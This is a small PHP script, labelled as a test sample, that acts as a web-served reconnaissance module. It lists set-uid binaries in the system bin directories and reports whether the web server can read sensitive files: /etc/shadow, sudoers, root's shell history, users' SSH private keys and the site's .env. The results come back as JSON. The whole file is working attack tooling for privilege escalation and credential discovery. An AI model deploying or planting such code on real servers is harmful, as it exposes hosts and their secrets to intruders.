<?php
// test sample (inert intent): a recon module listing set-uid binaries and checking which secret
// files of the host the web server can read, answered as JSON
header('Content-Type: application/json');
$found = array();
foreach (array('/bin', '/usr/bin', '/usr/sbin', '/usr/local/bin') as $d) {
    foreach ((array) @glob($d . '/*') as $f) {
        if (@fileperms($f) & 0x800) $found[] = $f;
    }
}
$readable = array();
foreach (array('/etc/shadow', '/etc/sudoers', '/root/.bash_history', '/home/*/.ssh/id_rsa', getcwd() . '/.env') as $p) {
    foreach ((array) @glob($p) as $f) {
        if (@is_readable($f)) $readable[] = $f;
    }
}
echo json_encode(array('suid' => $found, 'readable' => $readable));
